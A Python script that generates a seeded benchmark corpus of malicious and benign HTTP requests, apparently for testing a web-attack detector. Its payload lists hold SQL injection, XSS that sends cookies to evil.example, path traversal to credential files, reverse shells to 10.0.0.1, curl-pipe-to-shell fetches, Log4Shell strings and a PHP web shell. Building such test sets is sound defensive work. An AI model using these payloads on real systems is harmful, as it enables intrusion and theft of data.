"""Writes attacks.jsonl and benign.jsonl: `python bench/corpus/make_corpus.py`.

Deterministic (seeded). Each line is one request:
{"id", "category", "method", "path", "query", "headers": [[name, value]], "body"}
`query` is the raw (percent-encoded) query string, `body` a str or null.

Attacks: base payloads per category (classic techniques from public cheat sheets, each
written out once) placed in several locations and encodings: query value URL-encoded
once and twice, JSON field, form field, header, cookie, path, Unicode full-width.
Benign: API traffic built from realistic pieces: prose with apostrophes, quotes and
the words select/union/script/drop/update, URLs, code snippets, non-ASCII text,
base64 blobs, markdown, browser User-Agents and Referers, cookies.
"""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote, urlencode

HERE = Path(__file__).resolve().parent

SQLI = [
    "' or '1'='1",
    "' OR 1=1--",
    '" or ""="',
    "admin'--",
    "admin' #",
    "1' ORDER BY 3--+",
    "1 UNION SELECT username, password FROM users",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "-1' union select 1,@@version,3#",
    "1; DROP TABLE users--",
    "'; exec xp_cmdshell('dir')--",
    "1' AND SLEEP(5)--",
    "1'; waitfor delay '0:0:5'--",
    "1 AND 1=1",
    "1' AND '1'='1",
    "') or ('a'='a",
    "' or 1=1 limit 1 -- -",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1'/*!50000UNION*/ /*!50000SELECT*/ 1,2,3--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' and updatexml(null,concat(0x0a,user()),null)-- ",
    "1 and (select count(*) from information_schema.tables)>0",
    "'||(SELECT pg_sleep(10))--",
    "1; insert into users(name) values('x')--",
    "' OR 'x'='x",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1' or benchmark(5000000,md5(1))#",
    "admin' or '1'='1'/*",
    "' or true--",
    "1 or 1=1",
    "'; shutdown--",
    "1' GROUP BY 1,2,3--+",
    "' having 1=1--",
    "1) or (1=1",
    "' OR ''='",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "'; UPDATE users SET role='admin' WHERE name='bob'--",
]
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('xss')>",
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "'\"><img src=x onerror=prompt(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<video><source onerror="alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width: expression(alert(1))">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit>',
    '" onfocus="alert(1)" autofocus="',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "{{constructor.constructor('alert(1)')()}}",
    "<audio src onerror=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<img src=1 onerror=\"document.location='//evil.example/?c='+document.cookie\">",
    "<body/onpageshow=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "../../../../proc/self/environ",
    "..;/..;/WEB-INF/web.xml",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../var/log/apache2/access.log",
    "..\\..\\..\\..\\boot.ini",
    "/../../../../home/user/.ssh/id_rsa",
    "....\\/....\\/etc/hosts",
    "../../../../../../etc/passwd%00.png",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/var/www/../../etc/passwd",
    "../../.git/config",
    "C:\\Windows\\System32\\config\\SAM",
    "zip://uploads/shell.jpg%23payload.php",
    "../../../../../../../../etc/group",
    "..%u2215..%u2215etc%u2215passwd",
    "/proc/self/cmdline",
    "..././..././etc/passwd",
    "../../../wp-config.php",
    "..\\..\\inetpub\\wwwroot\\web.config",
]
RCE = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "$(whoami)",
    "; ls -la /",
    "| nc 10.0.0.1 4444 -e /bin/sh",
    "; wget http://evil.example/x.sh -O /tmp/x.sh",
    "; curl http://evil.example/s | sh",
    "127.0.0.1; ping -c 4 evil.example",
    "127.0.0.1 && uname -a",
    ";bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    ";c'a't /e't'c/pa's's'wd",
    ";cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "| powershell -enc SQBFAFgA",
    "& cmd /c dir",
    "| net user",
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "system('id')",
    ";python -c 'import os;os.system(\"id\")'",
    ";perl -e 'print 1'",
    "|| rm -rf /tmp/x",
    "; sleep 10",
    "$(curl evil.example)",
    ";echo${IFS}vulnerable",
    "a;/usr/bin/id",
    "`cat /etc/passwd`",
    "x\nid",
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "a|wh\\oami",
    "; ca\\t /etc/hosts",
]
# Protocol anomalies only make sense in particular places: whole requests.
PROTOCOL = [
    {"query": "next=%0d%0aSet-Cookie:%20session=evil"},
    {"query": "url=/home%0d%0aLocation:%20http://evil.example"},
    {"path": "/redirect%0d%0aLocation:%20http://evil.example/"},
    {"query": "file=report.pdf%00.exe"},
    {"path": "/files/report.pdf%00.txt"},
    {"query": "q=%zz"},
    {"query": "q=abc%G1def"},
    {"path": "/a%2"},
    {"query": "name=%ff%fe"},
    {"query": "p=%c0%af"},
    {"path": "/static/%c0%ae%c0%ae/x"},
    {"json": {"name": "a\u0000b"}},
    {"query": "text=hello%0d%0aX-Injected:%20yes"},
    {"body": '{"a": 1,,}', "ct": "application/json"},
    {"body": '{"user": "x", "role": "admin"', "ct": "application/json"},
    {"query": "lang=en%0AContent-Length:%200"},
    {"path": "/api/%0d%0aHost:%20evil"},
    {"query": "x=%%32%65"},
    {"query": "cb=%E0%80%BCscript"},
    {"header": ("X-Name", "abc%00def")},
    {"query": "q=%u0027%u006f%u0072"},
    {"query": "redirect=%0d%0a%0d%0a<html>"},
    {"query": "v=%ed%a0%80"},
    {"query": "id=5%"},
    {"path": "/users/%zz/profile"},
]


def fullwidth(s: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s)


def req(rid: str, cat: str, **kw: object) -> dict[str, object]:
    headers = [["Host", "api.example.com"], ["Accept", "application/json"]]
    headers += kw.pop("headers", [])  # type: ignore[operator]
    body = kw.pop("body", None)
    ct = kw.pop("ct", None)
    if ct:
        headers.append(["Content-Type", ct])
    return {
        "id": rid,
        "category": cat,
        "method": kw.pop("method", "POST" if body is not None else "GET"),
        "path": kw.pop("path", "/api/v1/items"),
        "query": kw.pop("query", ""),
        "headers": headers,
        "body": body,
    }


def attacks() -> list[dict[str, object]]:
    out = []
    for cat, payloads in (("sqli", SQLI), ("xss", XSS), ("traversal", TRAVERSAL), ("rce", RCE)):
        for i, p in enumerate(payloads):
            rid = f"{cat}-{i:02d}"
            out.append(req(f"{rid}-query", cat, query="q=" + quote(p, safe="")))
            out.append(req(f"{rid}-query2x", cat, query="id=" + quote(quote(p, safe=""), safe="")))
            out.append(
                req(
                    f"{rid}-json",
                    cat,
                    body=json.dumps({"name": "x", "comment": p}),
                    ct="application/json",
                )
            )
            out.append(
                req(
                    f"{rid}-form",
                    cat,
                    body=urlencode({"title": "t", "text": p}),
                    ct="application/x-www-form-urlencoded",
                )
            )
            if i % 3 == 0 and "\n" not in p:
                out.append(req(f"{rid}-ua", cat, headers=[["User-Agent", p]]))
            if i % 3 == 1:
                out.append(
                    req(
                        f"{rid}-cookie",
                        cat,
                        headers=[["Cookie", f"theme=dark; pref={quote(p, safe='')}"]],
                    )
                )
            if i % 4 == 2:
                out.append(req(f"{rid}-wide", cat, query="q=" + quote(fullwidth(p), safe="")))
            if cat == "traversal":
                out.append(req(f"{rid}-path", cat, path="/static/" + quote(p, safe="/%")))
    for i, spec in enumerate(PROTOCOL):
        kw: dict[str, object] = {}
        if "query" in spec:
            kw["query"] = spec["query"]
        if "path" in spec:
            kw["path"] = spec["path"]
        if "json" in spec:
            kw["body"], kw["ct"] = json.dumps(spec["json"]), "application/json"
        if "body" in spec:
            kw["body"], kw["ct"] = spec["body"], spec["ct"]
        if "header" in spec:
            kw["headers"] = [list(spec["header"])]  # type: ignore[arg-type]
        out.append(req(f"protocol-{i:02d}", "protocol", **kw))
    return out


PROSE = [
    "I can't believe how fast the delivery was! Five stars, would order again.",
    "Please select your preferred shipping option from the list below.",
    "The union meeting is on Tuesday; we'll select a new representative.",
    "She said \"it's the best script she's ever read\" and I agree.",
    "Drop me a line when you're back in town, and we'll grab coffee.",
    "Update: we've moved the stand-up to 10am. Sorry for the short notice!",
    "O'Reilly's book on SQL is a classic; I'd recommend it to anyone.",
    "Don't forget to delete from your cart the items you don't want.",
    "The 'select all' checkbox doesn't work on Safari, or maybe it's my extension.",
    "We're hiring a script writer for our new podcast -- apply by Friday.",
    "Our credit union offers 2.5% APY on savings; terms & conditions apply.",
    "Insert the tab into slot A, then fold along the dotted line.",
    "Is it 'color' or 'colour'? Depends on whether you're in the US or the UK.",
    'He yelled "Order by midnight or lose the discount!" at the top of his lungs.',
    "Version 2.0 adds dark mode and fixes the crash when you rotate the screen.",
    "Ratings: 4 or 5 stars from most reviewers; one said it was 'meh'.",
    "You & me against the world :) #friends",
    "Where's the exit? I've been walking around this mall for an hour...",
    "Java script tutorials for beginners: variables, loops and functions.",
    "Meet me at the corner of 5th & Main at 7 o'clock (don't be late).",
    "The movie's script was written in 1994; it was rewritten in '97.",
    "Price: $19.99 (was $24.99) - limited time only!",
    "Select one from the dropdown and hit 'Save'.",
    "It's 100% cotton, machine-washable at 30°C.",
    "The choice is between 'left' and 'right' -- or neither, if you prefer.",
    "My kids' school union had its annual meeting; they elected a new board.",
    "Let's grep the logs and see where it fails; then we'll update the ticket.",
    "Chapter 3: Where the wild things are; Chapter 4: Into the woods.",
    "A ~50/50 split between mobile and desktop users this quarter.",
    "Our command center will run drills on Monday; expect alarms at noon.",
]
NON_ASCII = [
    "Café crème et croissant, s'il vous plaît.",
    "Привет! Как дела? Всё хорошо.",
    "日本語のテキストです。よろしくお願いします。",
    "Ich möchte über Straßenbahnen sprechen.",
    "مرحبا بكم في موقعنا",
    "שלום עולם",
    "¿Dónde está la biblioteca? ¡Aquí!",
    "Emoji party 🎉🚀✨ — let's go!",
    "naïve façade coöperate résumé",
    "Ελληνικά κείμενα",
    "中文用户评论：这个产品很好用。",
    "Zażółć gęślą jaźń",
    "한국어 텍스트 예제입니다",
]
CODE = [
    'def greet(name):\n    return f"Hello, {name}!"',
    "const total = items.reduce((a, b) => a + b.price, 0);",
    "for i in range(10):\n    print(i * 2)",
    'fmt.Println("hello, world")',
    ".btn { color: #333; padding: 4px 8px; } /* primary button */",
    "npm install --save lodash && npm test",
    "git commit -m 'Fix typo in README' && git push origin main",
    "let x: Vec<i32> = vec![1, 2, 3];",
    "if (user.isAdmin && !user.disabled) { showPanel(); }",
    "SELECT-like syntax is not supported here; use the filter API instead.",
    "pip install requests==2.31.0",
    "const url = new URL('https://example.com/a?b=1');",
    "import { useState } from 'react';",
    "curl is a great tool for testing APIs, e.g. with -H for headers.",
    "x = {'a': 1, 'b': [1, 2, 3]}\nprint(x['b'][0])",
    "docker run -p 8080:80 nginx:latest",
    "async function load() { const r = await fetch(url); return r.json(); }",
    "SELECT is a keyword in SQL, as are FROM and WHERE.",
    "<p>Hello <b>world</b></p>",
    '<a href="https://example.com/docs">docs</a>',
    "The regex ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$ matches e-mail addresses.",
    "while (n > 0 && n % 2 == 0) n /= 2;",
    'System.out.println("Done");',
    "Use `ls -la` to see hidden files, then `cd ..` to go up.",
]
URLS = [
    "https://example.com/path?a=1&b=2",
    "http://cdn.example.org/img/logo.png?v=3",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://shop.example.com/search?q=red+shoes&size=42",
    "https://maps.example.com/@52.52,13.40,12z",
    "mailto:support@example.com",
    "https://example.com/files/report%202024.pdf",
    "ftp://files.example.net/pub/readme.txt",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.36.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Mobile/15E148",
    "Go-http-client/1.1",
    "axios/1.6.2",
]
NAMES = ["O'Brien", "D'Angelo", "Zoë Saldaña", "Anne-Marie", "José", "Mr. T", "李雷", "Ng"]


def benign() -> list[dict[str, object]]:
    rnd = random.Random(5)
    out: list[dict[str, object]] = []

    def text() -> str:
        pool = rnd.choice((PROSE, PROSE, NON_ASCII, CODE, URLS))
        return rnd.choice(pool)

    def common_headers() -> list[list[str]]:
        h = [["User-Agent", rnd.choice(UAS)]]
        if rnd.random() < 0.5:
            h.append(["Referer", rnd.choice(URLS[:5])])
        if rnd.random() < 0.5:
            prefs = quote(json.dumps({"theme": "dark", "lang": "en-GB"}), safe="")
            h.append(
                [
                    "Cookie",
                    f"session={rnd.getrandbits(128):032x}; _ga=GA1.2.{rnd.randint(1, 10**9)}.1700000000; prefs={prefs}",
                ]
            )
        if rnd.random() < 0.3:
            jwt = ".".join(
                base64.urlsafe_b64encode(rnd.randbytes(n)).decode().rstrip("=")
                for n in (36, 80, 32)
            )
            h.append(["Authorization", f"Bearer {jwt}"])
        return h

    for i in range(130):  # search queries and listings
        q = {
            "q": text(),
            "page": str(rnd.randint(1, 20)),
            "sort": rnd.choice(["-created_at", "price", "name"]),
        }
        if rnd.random() < 0.3:
            q["redirect"] = rnd.choice(URLS)
        out.append(
            req(
                f"benign-search-{i:03d}",
                "search",
                path=rnd.choice(["/api/v1/search", "/api/v2/products", "/search"]),
                query=urlencode(q),
                headers=common_headers(),
            )
        )
    for i in range(150):  # JSON writes
        doc: dict[str, object] = {
            "author": {"name": rnd.choice(NAMES), "email": "someone@example.com"},
            "title": text()[:60],
            "body": " ".join(text() for _ in range(rnd.randint(1, 4))),
            "tags": rnd.sample(
                ["union", "select", "script", "news", "sql", "tips", "café", "drop"], 3
            ),
            "rating": rnd.randint(1, 5),
            "links": [rnd.choice(URLS)],
            "meta": {"client": "web", "draft": rnd.random() < 0.5, "ratio": rnd.random()},
        }
        if rnd.random() < 0.35:
            doc["attachment"] = {
                "filename": "photo.jpg",
                "data": base64.b64encode(rnd.randbytes(rnd.randint(200, 3000))).decode(),
            }
        if rnd.random() < 0.3:
            doc["snippet"] = {"language": "python", "code": rnd.choice(CODE)}
        out.append(
            req(
                f"benign-json-{i:03d}",
                "json",
                method=rnd.choice(["POST", "PUT", "PATCH"]),
                path=f"/api/v1/posts/{rnd.randint(1, 9999)}/comments",
                body=json.dumps(doc, ensure_ascii=rnd.random() < 0.5),
                ct="application/json; charset=utf-8",
                headers=common_headers(),
            )
        )
    for i in range(70):  # form posts
        form = {
            "name": rnd.choice(NAMES),
            "message": text(),
            "subscribe": "on",
            "website": rnd.choice(URLS),
        }
        out.append(
            req(
                f"benign-form-{i:03d}",
                "form",
                path="/contact",
                body=urlencode(form),
                ct="application/x-www-form-urlencoded",
                headers=common_headers(),
            )
        )
    for i in range(50):  # plain GETs with ids, paths and filters
        path = rnd.choice(
            [
                "/api/v1/users/%d" % rnd.randint(1, 10**6),
                "/static/js/app.3f9a2c.js",
                "/api/v1/files/report%202024-Q3.pdf",
                "/api/v1/tags/caf%C3%A9",
                "/docs/getting-started/install",
                "/api/v1/orders/ORD-2024-000123/items",
            ]
        )
        q = {
            "fields": "id,name,created_at",
            "filter[status]": rnd.choice(["open", "closed"]),
            "since": "2024-01-01T00:00:00Z",
            "discount": "100%",
        }
        out.append(
            req(
                f"benign-get-{i:03d}",
                "get",
                path=path,
                query=urlencode(q),
                headers=common_headers(),
            )
        )
    return out


def main() -> None:
    for name, rows in (("attacks.jsonl", attacks()), ("benign.jsonl", benign())):
        with (HERE / name).open("w", encoding="utf-8") as f:
            for row in rows:
                f.write(json.dumps(row, ensure_ascii=False) + "\n")
        print(f"wrote {len(rows)} requests to {HERE / name}")


if __name__ == "__main__":
    main()
